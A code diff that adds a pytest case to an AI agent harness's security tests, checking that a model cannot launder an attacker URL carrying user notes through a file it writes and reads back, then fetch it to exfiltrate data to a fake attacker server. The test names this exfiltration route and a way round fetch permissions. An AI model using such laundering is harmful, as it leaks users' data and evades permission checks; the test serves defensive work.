@@ -137,3 +137,18 @@ async def test_an_always_allowed_tool_never_acts_on_what_the_page_chose(
     await _run(person, docs, mode,
                tool("record", {"value": "@mallory"}, id="toolu_3"))
     assert person.record.calls == []
+
+
+@pytest.mark.parametrize("mode", MODES)
+async def test_a_link_the_model_wrote_itself_is_not_a_link_a_page_offered(
+        person: Harness, docs: FakeWebServer, attacker: FakeWebServer,
+        mode: PermissionMode) -> None:
+    """Laundering: the model writes the URL carrying the notes into a project file, reads it
+    back, and fetches it "exactly as a file gave it"."""
+    person.enable("write_file", allowed_write_dirs=["."])
+    link = attacker.url(f"/collect?d={MARKER}")
+    await _run(person, docs, mode,
+               tool("write_file", {"path": "link.md", "content": f"see {link}\n"}, id="toolu_3"),
+               tool("read_file", {"path": "link.md"}, id="toolu_4"),
+               tool("web_fetch", {"url": link}, id="toolu_5"))
+    assert not leaked(attacker)
